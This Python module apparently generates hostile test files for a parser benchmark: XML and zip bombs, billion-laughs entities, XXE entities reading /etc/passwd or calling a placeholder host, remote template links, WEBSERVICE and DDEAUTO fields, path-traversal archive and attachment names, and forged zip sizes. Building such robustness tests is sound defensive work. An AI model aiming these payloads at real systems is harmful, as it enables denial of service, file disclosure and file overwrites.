"""Hostile office files, archives and mails."""

from __future__ import annotations

import base64
import io
import zipfile
from collections.abc import Mapping
from pathlib import Path

from benchmarks.hostile.kinds import NOWHERE, kind
from benchmarks.hostile.pictures import paper, png

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_OPEN = "application/vnd.openxmlformats-"
_WORD = f"{_OPEN}officedocument.wordprocessingml"
_KINDS = {
    "rels": f"{_OPEN}package.relationships+xml",
    "xml": f"{_WORD}.styles+xml",
    "png": "image/png",
    "jpg": "image/jpeg",
    "docx": f"{_WORD}.document",
}
_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    + "".join(f'<Default Extension="{e}" ContentType="{k}"/>' for e, k in _KINDS.items())
    + f'<Override PartName="/word/document.xml" ContentType="{_WORD}.document.main+xml"/></Types>'
)
_ROOT = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="r1" Type="{_R}/officeDocument" Target="word/document.xml"/></Relationships>'
)


def _zip(files: Mapping[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def _docx(
    body: str, links: str = "", more: Mapping[str, bytes] | None = None, head: str = ""
) -> bytes:
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{links}</Relationships>"
    )
    document = (
        f'<?xml version="1.0" encoding="UTF-8"?>{head}<w:document xmlns:w="{_W}" xmlns:r="{_R}" '
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        f"<w:body>{body}</w:body></w:document>"
    )
    files: dict[str, str | bytes] = {
        "[Content_Types].xml": _TYPES,
        "_rels/.rels": _ROOT,
        "word/document.xml": document,
        "word/_rels/document.xml.rels": rels,
    }
    return _zip({**files, **(more or {})})


def _p(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _picture(link: str) -> str:
    return f'<w:p><w:r><w:drawing><a:blip r:embed="{link}"/></w:drawing></w:r></w:p>'


def _link(name: str, what: str, target: str, *, outside: bool = False) -> str:
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="{name}" Type="{_R}/{what}" Target="{target}"{mode}/>'


@kind("a.docx")
def xml_bomb(path: Path) -> None:
    path.write_bytes(_docx("<w:p/>" * 60_000_000))


@kind("a.docx")
def xml_just_allowed(path: Path) -> None:
    path.write_bytes(_docx("<w:p/>" * 9_500_000))


@kind("a.docx")
def a_billion_laughs(path: Path) -> None:
    names = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
    path.write_bytes(_docx(_p("&l9;"), head=f'<!DOCTYPE w [<!ENTITY l0 "ha">{names}]>'))


@kind("a.docx")
def entity_of_a_file(path: Path) -> None:
    path.write_bytes(
        _docx(_p("&x;"), head="<!DOCTYPE w [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>")
    )


@kind("a.docx")
def entity_of_the_web(path: Path) -> None:
    path.write_bytes(_docx(_p("&x;"), head=f"<!DOCTYPE w [<!ENTITY x SYSTEM '{NOWHERE}/x'>]>"))


@kind("a.docx")
def wide_word_table(path: Path) -> None:
    span = '<w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr>' + _p("Việc") + "</w:tc>"
    path.write_bytes(_docx("<w:tbl>" + f"<w:tr>{span}{span}</w:tr>" * 100 + "</w:tbl>"))


@kind("a.docx")
def deep_word_tables(path: Path) -> None:
    body = "<w:tbl><w:tr><w:tc>" * 60 + _p("Việc") + "</w:tc></w:tr></w:tbl>" * 60
    path.write_bytes(_docx(body))


@kind("a.docx")
def word_in_word_in_word(path: Path) -> None:
    data = _docx(_p("Việc"))
    for _ in range(8):
        link = _link("c", "aFChunk", "inner.docx")
        data = _docx(_p("Ngoài") + '<w:altChunk r:id="c"/>', link, {"word/inner.docx": data})
    path.write_bytes(data)


@kind("a.docx")
def linked_picture_and_template(path: Path) -> None:
    links = _link("p", "image", f"{NOWHERE}/a.png", outside=True)
    links += _link("t", "attachedTemplate", f"{NOWHERE}/a.dotm", outside=True)
    path.write_bytes(_docx(_p("Việc") + _picture("p"), links))


@kind("a.docx")
def scan_in_word_cut(path: Path) -> None:
    more = {"word/a.jpg": paper()[:60]}
    path.write_bytes(_docx(_p("Việc") + _picture("p"), _link("p", "image", "a.jpg"), more))


@kind("a.docx")
def scan_in_word_too_large(path: Path) -> None:
    more = {"word/a.png": png(13_300, 13_300, 2, 8)}
    path.write_bytes(_docx(_p("Việc") + _picture("p"), _link("p", "image", "a.png"), more))


@kind("a.docx")
def scan_in_word_missing(path: Path) -> None:
    path.write_bytes(_docx(_p("Việc") + _picture("none")))


@kind("a.docx")
def styles_in_a_ring(path: Path) -> None:
    body = '<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>Việc</w:t></w:r></w:p>'
    styles = (
        f'<w:styles xmlns:w="{_W}"><w:style w:styleId="A"><w:basedOn w:val="B"/></w:style>'
        '<w:style w:styleId="B"><w:basedOn w:val="A"/></w:style></w:styles>'
    )
    path.write_bytes(
        _docx(body, _link("s", "styles", "styles.xml"), {"word/styles.xml": styles.encode()})
    )


def _xlsx(sheet: str, strings: str = "") -> bytes:
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    office = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    return _zip(
        {
            "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
            'package.relationships+xml"/><Override PartName="/xl/workbook.xml" '
            f'ContentType="{office}.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" '
            f'ContentType="{office}.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" '
            f'ContentType="{office}.sharedStrings+xml"/></Types>',
            "_rels/.rels": _ROOT.replace("word/document.xml", "xl/workbook.xml"),
            "xl/workbook.xml": f'<workbook xmlns="{space}" xmlns:r="{_R}"><sheets>'
            '<sheet name="A" sheetId="1" r:id="r1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": _ROOT.replace('officeDocument"', 'worksheet"').replace(
                "word/document.xml", "worksheets/sheet1.xml"
            ),
            "xl/sharedStrings.xml": f'<sst xmlns="{space}">{strings}</sst>',
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{space}">{sheet}</worksheet>',
        }
    )


_CELL = '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Việc</t></is></c></row></sheetData>'


@kind("a.xlsx")
def merged_whole_sheet(path: Path) -> None:
    merges = '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    path.write_bytes(_xlsx(_CELL + merges))


@kind("a.xlsx")
def sheet_bomb(path: Path) -> None:
    rows = '<row><c t="inlineStr"><is><t>a</t></is></c></row>' * 2_000_000
    path.write_bytes(_xlsx(f"<sheetData>{rows}</sheetData>"))


@kind("a.xlsx")
def sheet_just_allowed(path: Path) -> None:
    rows = '<row><c t="inlineStr"><is><t>a</t></is></c></row>' * 400_000
    path.write_bytes(_xlsx(f"<sheetData>{rows}</sheetData>"))


@kind("a.xlsx")
def cells_far_apart(path: Path) -> None:
    far = '<c r="XFD1048576" t="inlineStr"><is><t>Xa</t></is></c>'
    path.write_bytes(
        _xlsx(_CELL.replace("</sheetData>", f'<row r="1048576">{far}</row></sheetData>'))
    )


@kind("a.xlsx")
def formula_to_the_web(path: Path) -> None:
    cell = f'<c r="B1"><f>WEBSERVICE("{NOWHERE}")</f></c>'
    path.write_bytes(_xlsx(_CELL.replace("</row>", f"{cell}</row>")))


@kind("a.rtf")
def rtf_of_the_web(path: Path) -> None:
    fields = "".join(
        r"{\field{\*\fldinst " + f'{name} "{NOWHERE}/a"' + r"}{\fldrslt x}}"
        for name in ("INCLUDEPICTURE", "INCLUDETEXT", "DDEAUTO", "HYPERLINK")
    )
    path.write_text(r"{\rtf1\ansi {\*\template " + f"{NOWHERE}/a.dot}} Viec {fields}" + r"\par}")


@kind("a.rtf")
def deep_rtf(path: Path) -> None:
    path.write_text(r"{\rtf1 " + "{" * 500_000 + "Viec" + "}" * 500_001)


@kind("a.rtf")
def long_rtf(path: Path) -> None:
    path.write_text(r"{\rtf1 " + r"a\par " * 700_000 + "}")


@kind("a.rtf")
def rtf_cut(path: Path) -> None:
    path.write_text(r"{\rtf1 {\b Viec can lam\par Viec")


@kind("a.doc")
def doc_cut(path: Path) -> None:
    data = Path("samples/09-tu-danh-gia-word-cu.doc").read_bytes()
    path.write_bytes(data[: len(data) * 3 // 5])


_OFFICE = " ".join(
    f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{place}:1.0"'
    for name, place in (
        ("office", "office"), ("text", "text"), ("table", "table"), ("draw", "drawing"),
        ("manifest", "manifest"), ("script", "script"),
    )
)  # fmt: skip
_IMAGE = (
    '<draw:frame><draw:image xmlns:xlink="http://www.w3.org/1999/xlink" '
    f'xlink:href="{NOWHERE}/a.png"/></draw:frame>'
)


@kind("a.ods")
def linked_sheet(path: Path) -> None:
    kind_of = "application/vnd.oasis.opendocument.spreadsheet"
    path.write_bytes(
        _zip(
            {
                "mimetype": kind_of,
                "META-INF/manifest.xml": f"<manifest:manifest {_OFFICE}><manifest:file-entry "
                f'manifest:full-path="/" manifest:media-type="{kind_of}"/><manifest:file-entry '
                'manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
                "</manifest:manifest>",
                "content.xml": f'<office:document-content {_OFFICE} office:version="1.2">'
                '<office:body><office:spreadsheet><table:table table:name="A"><table:table-row>'
                f"<table:table-cell><text:p>Việc</text:p>{_IMAGE}</table:table-cell>"
                "</table:table-row></table:table></office:spreadsheet></office:body>"
                "</office:document-content>",
            }
        )
    )


@kind("a.fodt")
def flat_text_that_links(path: Path) -> None:
    path.write_text(
        "<?xml version='1.0'?><!-- http://schemas.microsoft.com/office/word/2003/wordml -->"
        f"<office:document {_OFFICE} office:mimetype='application/vnd.oasis.opendocument.text'>"
        f"<office:body><office:text><text:p>a{_IMAGE}</text:p></office:text></office:body>"
        "</office:document>"
    )


@kind("a.xls")
def ole2_of_noise(path: Path) -> None:
    name = "Workbook".encode("utf-16-le").ljust(128, b"\0")
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(512, b"\xff") + name * 40)


@kind("a.zip")
def zip_in_zip_in_zip(path: Path) -> None:
    data = _zip({"0.txt": b"0" * 100_000_000})
    for _ in range(4):
        data = _zip({f"{number}.zip": data for number in range(16)})
    path.write_bytes(data)


@kind("a.zip")
def zip_of_many_files(path: Path) -> None:
    path.write_bytes(_zip({f"{number}.txt": "a" for number in range(60_000)}))


@kind("a.zip")
def zip_that_climbs(path: Path) -> None:
    path.write_bytes(_zip({"../../../../tmp/hostile-was-here.txt": "a", "/etc/hostile.txt": "b"}))


@kind("a.zip")
def zip_that_lies(path: Path) -> None:
    data = _zip({"a.txt": b"0" * 50_000_000})
    size = (50_000_000).to_bytes(4, "little")
    path.write_bytes(data.replace(size, (10).to_bytes(4, "little")))


@kind("a.eml")
def mail_in_mail(path: Path) -> None:
    head = "From: a@b.vn\nTo: c@d.vn\nSubject: x\nMIME-Version: 1.0\n"
    path.write_text(head + "Content-Type: message/rfc822\n\n".join([head] * 2_000) + "\nViec")


@kind("a.eml")
def mail_of_nothing(path: Path) -> None:
    attached = base64.encodebytes(b"\0" * 3_000_000).decode()
    path.write_text(
        "From: a@b.vn\nTo: c@d.vn\nSubject: x\nContent-Type: application/octet-stream\n"
        "Content-Disposition: attachment; filename=../../a.bin\n"
        f"Content-Transfer-Encoding: base64\n\n{attached}"
    )
